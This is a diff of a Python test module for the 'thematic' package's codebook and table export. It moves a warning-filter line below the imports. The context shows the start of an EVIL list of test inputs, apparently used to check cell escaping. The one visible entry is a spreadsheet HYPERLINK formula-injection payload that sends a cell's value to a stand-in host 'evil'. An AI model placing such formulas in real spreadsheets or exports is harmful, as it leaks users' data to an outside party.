@@ -12,8 +12,6 @@ import openpyxl
 import pandas as pd
 import pytest
 
-pytestmark = pytest.mark.filterwarnings("ignore::thematic.codebook.CodebookWarning")
-
 from thematic import Project
 from thematic.codebook import read_codebook_csv, write_codebook_csv
 from thematic.errors import WriteError
@@ -21,6 +19,8 @@ from thematic.export import write_table
 from thematic.export.tabular import escape_cell, unescape_cell
 from thematic.fileio import write_atomic
 from thematic.models import Code, Codebook
+
+pytestmark = pytest.mark.filterwarnings("ignore::thematic.codebook.CodebookWarning")
 
 EVIL = [
     '=HYPERLINK("http://evil/?leak="&A1,"click")',
